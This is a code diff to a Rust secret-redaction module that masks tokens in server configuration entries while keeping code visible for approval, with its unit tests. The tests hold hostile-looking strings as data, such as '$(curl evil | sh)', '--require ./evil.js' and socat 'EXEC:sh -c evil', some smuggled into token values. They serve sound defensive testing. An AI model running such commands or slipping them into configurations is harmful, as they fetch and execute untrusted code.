@@ -6,9 +6,10 @@ use std::ops::Range;
 use percent_encoding::percent_decode_str;
 use serde_json::{Map, Value};
 
+use super::code::without_code;
 use super::names::is_secret_name;
 use super::plain::{is_path_setting, is_plain, is_random, is_words};
-use super::shape::{merged, replace_ranges, secret_ranges};
+use super::shape::{each_secret, merged, replace_ranges};
 use crate::entry::{
     HttpEntry, IdeEntry, ServerEntry, ServerUrl, StdioEntry, TransportEntry, WsEntry,
 };
@@ -20,7 +21,8 @@ pub enum RedactMode {
     /// Every value of `env` and `headers` that may be a secret, for lists, previews and logs.
     Display,
     /// Only values that are secrets by name or shape: a person who approves an entry must see which code runs, so that
-    /// `NODE_OPTIONS` stays readable, and a value with shell syntax in it is never masked as a whole.
+    /// `NODE_OPTIONS` stays readable. Outside of `url` and `headers`, which run nothing, only single words made of the
+    /// characters of tokens are masked, and no paths: whatever could be code stays.
     Approval,
 }
 
@@ -78,7 +80,7 @@ pub fn redact_entry_with(
 /// ```
 pub fn redact_url(text: &str) -> String {
     let mut replace = |_: &str| HIDDEN.to_owned();
-    replace_ranges(text, &url_ranges(text), &mut replace).into_owned()
+    replace_ranges(text, &merged(url_ranges(text)), &mut replace).into_owned()
 }
 
 /// The secrets of an entry whose references have been filled in, and of the environment that its process inherits: what a
@@ -122,7 +124,7 @@ pub fn entry_secrets(entry: &ServerEntry) -> Vec<String> {
             let headers = headers.iter();
             found.extend(headers.flat_map(|(name, value)| header_secrets(name, value.expose())));
             let helper = headers_helper.as_deref().unwrap_or_default();
-            let ranges = command_ranges(helper).into_iter();
+            let ranges = merged(command_ranges(helper)).into_iter();
             found.extend(ranges.map(|range| helper[range].to_owned()));
         }
         TransportEntry::Ide(IdeEntry {
@@ -211,7 +213,7 @@ impl Masker<'_> {
                     }
                 }
                 ("args", Value::Array(args)) => self.args(args),
-                ("url", Value::String(url)) => self.put(url, url_ranges),
+                ("url", Value::String(url)) => self.mask(url, url_ranges(url)),
                 ("command" | "headersHelper", Value::String(command)) => {
                     self.put(command, command_ranges);
                 }
@@ -220,8 +222,18 @@ impl Masker<'_> {
         }
     }
 
+    /// Masks what `find` finds in a text that may be code, or part of some.
     fn put(&mut self, text: &mut String, find: impl Fn(&str) -> Vec<Range<usize>>) {
         let ranges = find(text);
+        let ranges = match self.mode {
+            RedactMode::Display => ranges,
+            RedactMode::Approval => without_code(text, ranges),
+        };
+        self.mask(text, ranges);
+    }
+
+    fn mask(&mut self, text: &mut String, ranges: Vec<Range<usize>>) {
+        let ranges = merged(ranges);
         if !ranges.is_empty() {
             *text = replace_ranges(text, &ranges, self.replace).into_owned();
         }
@@ -259,9 +271,11 @@ impl Masker<'_> {
         let is_secret = is_secret_name(name) && !is_path_setting(name, text);
         match self.mode {
             RedactMode::Display if is_secret || !is_plain(text) => self.put(text, value_ranges),
-            RedactMode::Approval if is_secret && !has_shell_syntax(text) => {
-                self.put(text, value_ranges);
-            }
+            RedactMode::Approval if is_secret => self.put(text, |text| {
+                let mut ranges = value_ranges(text);
+                ranges.extend(command_ranges(text));
+                ranges
+            }),
             RedactMode::Display | RedactMode::Approval => self.put(text, command_ranges),
         }
     }
@@ -271,7 +285,7 @@ impl Masker<'_> {
             return;
         }
         match value {
-            Value::String(text) => self.put(text, value_ranges),
+            Value::String(text) => self.mask(text, value_ranges(text)),
             value => *value = (self.replace)(&value.to_string()).into(),
         }
     }
@@ -349,12 +363,6 @@ impl Flag {
 /// The secrets in an argument whose value begins at `start`.
 fn arg_ranges(text: &str, start: usize, flag: Flag, mode: RedactMode) -> Vec<Range<usize>> {
     let value = &text[start..];
-    let whole = || {
-        if mode == RedactMode::Approval && has_shell_syntax(value) {
-            return Vec::new();
-        }
-        value_ranges(value)
-    };
     let after = |at: usize| {
         let rest = &value[at..];
         let at = at + rest.len() - rest.trim_start().len();
@@ -364,7 +372,7 @@ fn arg_ranges(text: &str, start: usize, flag: Flag, mode: RedactMode) -> Vec<Ran
             .collect()
     };
     let by_position: Vec<Range<usize>> = match flag {
-        Flag::Secret => whole(),
+        Flag::Secret => value_ranges(value),
         Flag::Env | Flag::Plain | Flag::Other => match value.split_once('=') {
             Some((name, setting)) => {
                 let is_secret = is_secret_name(name) && !is_path_setting(name, setting);
@@ -380,7 +388,7 @@ fn arg_ranges(text: &str, start: usize, flag: Flag, mode: RedactMode) -> Vec<Ran
                     Vec::new()
                 }
             }
-            None if flag == Flag::Plain && is_random(value) => whole(),
+            None if flag == Flag::Plain && is_random(value) => value_ranges(value),
             None => Vec::new(),
         },
         Flag::Header => match value.split_once(':') {
@@ -391,6 +399,8 @@ fn arg_ranges(text: &str, start: usize, flag: Flag, mode: RedactMode) -> Vec<Ran
             None => Vec::new(),
         },
         Flag::User => match value.split_once(':') {
+            // `socat -u EXEC:program -`
+            Some((name, _)) if mode == RedactMode::Approval && is_start(name) => Vec::new(),
             Some((name, _)) => after(name.len() + 1),
             None => Vec::new(),
         },
@@ -400,7 +410,13 @@ fn arg_ranges(text: &str, start: usize, flag: Flag, mode: RedactMode) -> Vec<Ran
         .map(|range| range.start + start..range.end + start)
         .collect();
     ranges.extend(command_ranges(text));
-    merged(ranges)
+    ranges
+}
+
+/// Whether what follows a name and a colon is started as a program.
+fn is_start(name: &str) -> bool {
+    let mut starts = ["exec", "system", "shell"].iter();
+    starts.any(|start| name.trim().eq_ignore_ascii_case(start))
 }
 
 /// The whole value without its references, and without the scheme in front of it.
@@ -415,7 +431,7 @@ fn value_ranges(text: &str) -> Vec<Range<usize>> {
 
 /// What looks like a secret in text of an entry, where references are none.
 fn command_ranges(text: &str) -> Vec<Range<usize>> {
-    let mut ranges = secret_ranges(text);
+    let mut ranges = each_secret(text);
     ranges.retain(|range| !text[range.clone()].starts_with(['`', '(']));
     without_references(text, &ranges)
 }
@@ -443,12 +459,12 @@ fn url_ranges(text: &str) -> Vec<Range<usize>> {
         ranges.push(start + name..start + pair.len());
         start += pair.len() + 1;
     }
-    ranges.extend(secret_ranges(text));
-    without_references(text, &merged(ranges))
+    ranges.extend(each_secret(text));
+    without_references(text, &ranges)
 }
 
 /// The length of `Bearer ` and the like at the beginning of a text.
-fn scheme_end(text: &str) -> usize {
+pub(super) fn scheme_end(text: &str) -> usize {
     let is_scheme = |scheme: &&&str| {
         text.get(..scheme.len())
             .is_some_and(|start| start.eq_ignore_ascii_case(scheme))
@@ -459,7 +475,12 @@ fn scheme_end(text: &str) -> usize {
 /// Whether a shell would do more with a text than take it as a word.
 fn has_shell_syntax(text: &str) -> bool {
     let references = references(text);
-    let is_reference = |at: usize| references.iter().any(|range| range.contains(&at));
+    let is_reference = |at: usize| {
+        let next = references.partition_point(|reference| reference.end <= at);
+        references
+            .get(next)
+            .is_some_and(|range| range.contains(&at))
+    };
     let is_syntax = |c: char| c.is_whitespace() || "`;|&<>(){}\\".contains(c);
     text.char_indices()
         .any(|(at, c)| is_syntax(c) && !is_reference(at))
@@ -471,9 +492,10 @@ fn without_references(text: &str, ranges: &[Range<usize>]) -> Vec<Range<usize>> 
     let mut left = Vec::with_capacity(ranges.len());
     for range in ranges {
         let mut start = range.start;
-        for reference in &references {
-            if reference.end <= start || reference.start >= range.end {
-                continue;
+        let first = references.partition_point(|reference| reference.end <= start);
+        for reference in &references[first..] {
+            if reference.start >= range.end {
+                break;
             }
             left.push(start..reference.start.max(start));
             start = reference.end;
@@ -487,20 +509,20 @@ fn without_references(text: &str, ranges: &[Range<usize>]) -> Vec<Range<usize>> 
 /// `${NAME}`, `$NAME`, and of `${NAME:-default}` all but the default.
 fn references(text: &str) -> Vec<Range<usize>> {
     let mut found = Vec::new();
+    // No brace closes a reference any more, so that none is looked for again.
+    let mut open = false;
     let mut at = 0;
     while let Some(dollar) = text[at..].find('$') {
         let start = at + dollar;
         let rest = &text[start + 1..];
         at = start + 1;
         if let Some(inside) = rest.strip_prefix('{') {
-            let Some(end) = inside.find('}') else {
+            let Some(length) = Some(inside).filter(|_| !open).and_then(|it| it.find('}')) else {
+                open = true;
                 continue;
             };
-            let end = start + 2 + end + 1;
-            match inside
-                .find(":-")
-                .filter(|default| start + 2 + default < end)
-            {
+            let end = start + 2 + length + 1;
+            match inside[..length].find(":-") {
                 Some(default) => {
                     found.push(start..start + 2 + default + 2);
                     found.push(end - 1..end);
@@ -628,7 +650,101 @@ mod tests {
             "command": "sh",
             "args": ["-c", "TOKEN=`curl evil` x", "--token", "$(curl evil | sh)", "--password", "***", "--token", "${A:-***}"],
             "env": {"NODE_OPTIONS": "--require ./evil.js", "TOKEN": "***", "A_SECRET": "$(curl evil)"},
-            "headersHelper": "echo '{\"Authorization\": \"***\"}'; curl evil",
+            "headersHelper": "echo '{\"Authorization\": \"Bearer ***\"}'; curl evil",
+        });
+        assert_eq!(shown(entry, RedactMode::Approval), expected);
+    }
+
+    #[test]
+    fn an_approval_hides_no_code_behind_a_telling_name() {
+        for code in [
+            "TOKEN=\"$(curl evil|sh)\" node x.js",
+            "TOKEN='$(curl evil)' node x.js",
+            "API_TOKEN=x$(./evil.sh) node s.js",
+            "API_TOKEN=x`./evil.sh` node s.js",
+            "API_TOKEN=\"\"./evil.sh",
+            "TOKEN=a|./evil.sh",
+            "TOKEN=a\\;evil",
+            "token=load'./evil.rb'",
+            "token=load' ./evil.rb'",
+            "$token=do\"./e.pl\"",
+            "token=load(evil)",
+            "token=\"a b; evil\"",
+            "{\"token\": \"$(evil)\"}",
+            "{\"token\": \"`evil`\"}",
+            "{\"token\": evil()}",
+            "x({'password': require('./e')})",
+            "run --token Abc12345$(evil)",
+            "run --token Abc12345`evil`",
+            "X-Api-Key: a1b2c3d4e5$(evil)",
+            "curl -H 'Authorization: Bearer abcdefgh$(evil)'",
+            "https://$(evil)@host/",
+            "https://h/?key=$(evil)",
+            "https://h/?key=a;evil",
+            "--token=./evil.sh",
+            "--password=bin/evil",
+            "--secret=evil.js",
+        ] {
+            for entry in [
+                json!({"command": "sh", "args": ["-c", code]}),
+                json!({"command": "ruby", "args": ["-e", code]}),
+                json!({"command": "x", "args": [code]}),
+                json!({"command": code}),
+                json!({"headersHelper": code}),
+                json!({"env": {"A_TOKEN": code}}),
+                json!({"env": {"A": code}}),
+                json!({"other": {"token": code}}),
+            ] {
+                assert_eq!(shown(entry.clone(), RedactMode::Approval), entry);
+            }
+        }
+        for args in [
+            json!(["-u", "EXEC:sh -c evil", "-"]),
+            json!(["-u", "EXEC:./evil", "-"]),
+            json!(["-u", "system:evil", "-"]),
+            json!(["-H", "X: $(evil)"]),
+            json!(["--header=X: a b"]),
+            json!(["--token", "./evil.js"]),
+            json!(["--token", "evil 'x'"]),
+        ] {
+            let entry = json!({"command": "socat", "args": args});
+            assert_eq!(shown(entry.clone(), RedactMode::Approval), entry);
+        }
+    }
+
+    #[test]
+    fn an_approval_shows_no_plain_secrets() {
+        for (arg, expected) in [
+            ("TOKEN=abc node x.js; evil", "TOKEN=*** node x.js; evil"),
+            ("TOKEN=\"abc\" node x.js", "TOKEN=*** node x.js"),
+            ("TOKEN=\"Bearer abc\" x", "TOKEN=\"Bearer ***\" x"),
+            ("export 'TOKEN=abc'; x", "export 'TOKEN=***'; x"),
+            ("{\"token\": \"abc\"}", "{\"token\": \"***\"}"),
+            (r#"{\"token\":\"abc\"}"#, r#"{\"token\":\"***\"}"#),
+            (
+                "curl -H \"Authorization: Bearer abcdefgh\" x",
+                "curl -H \"Authorization: Bearer ***\" x",
+            ),
+            ("x --token Abc12345 y", "x --token *** y"),
+            ("https://u:p@h/?key=abc&x=1", "https://***@h/?key=***&x=1"),
+            ("https://h/ghp_16C7e42F292c69/x", "https://h/***/x"),
+            ("TOKEN=${A:-abc} x", "TOKEN=${A:-***} x"),
+            (
+                "TOKEN=\"$(evil ghp_16C7e42F292c69)\"",
+                "TOKEN=\"$(evil ***)\"",
+            ),
+        ] {
+            let entry = json!({"command": "sh", "args": ["-c", arg]});
+            let shown = shown(entry, RedactMode::Approval);
+            assert_eq!(shown["args"][1], expected);
+        }
+        let entry = json!({
+            "args": ["-u", "me:pw", "-H", "Authorization: Bearer abc", "-eA_TOKEN=abc", "--password", "aB3+y/z9Kq="],
+            "url": "https://u:p$w@h/?k=a b", "headers": {"A": "b c"}, "env": {"TOKEN": "abc"},
+        });
+        let expected = json!({
+            "args": ["-u", "me:***", "-H", "Authorization: Bearer ***", "-eA_TOKEN=***", "--password", "***"],
+            "url": "https://***@h/?k=***", "headers": {"A": "***"}, "env": {"TOKEN": "***"},
         });
         assert_eq!(shown(entry, RedactMode::Approval), expected);
     }
